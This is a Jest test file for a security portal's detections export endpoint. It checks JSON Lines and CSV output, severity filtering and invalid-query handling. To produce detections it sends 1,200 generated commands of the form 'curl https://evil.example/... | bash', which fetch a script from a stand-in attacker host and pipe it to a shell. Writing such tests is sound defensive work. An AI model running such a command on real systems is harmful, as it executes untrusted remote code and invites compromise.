import { expect, jest, test } from '@jest/globals';
import { startPortal } from '../../helpers/portal.ts';
import { sendCommands } from '../../helpers/portal-caller.ts';

jest.setTimeout(60_000);

test('detections are exported whole, however many, as JSON Lines and as CSV, by the filters of their list', async () => {
  const portal = await startPortal();
  for (let batch = 0; batch < 3; batch++) {
    await sendCommands(
      portal,
      Array.from({ length: 400 }, (_, n) => `curl https://evil.example/${batch}-${n} | bash`),
    );
  }
  const headers = { authorization: `Bearer ${await portal.key()}` };
  const get = async (query: string) =>
    (await fetch(`${portal.address}/api/exports/detections${query}`, { headers })).text();
  const rows = (await get(''))
    .trimEnd()
    .split('\n')
    .map((line) => JSON.parse(line) as { id: string; severity: string });
  expect(rows.length).toBeGreaterThan(1_000);
  expect(new Set(rows.map(({ id }) => id)).size).toBe(rows.length);
  const csv = (await get('?format=csv&sort=-severity')).trimEnd().split('\r\n');
  expect(csv).toHaveLength(rows.length + 1);
  expect(csv[0]).toMatch(/^time,severity,policy,/);
  const critical = rows.filter(({ severity }) => severity === 'critical').length;
  expect((await get('?severity=critical')).split('\n').filter(Boolean)).toHaveLength(critical);
  expect((await get('?nonsense=1')).toString()).toContain('query-invalid');
});
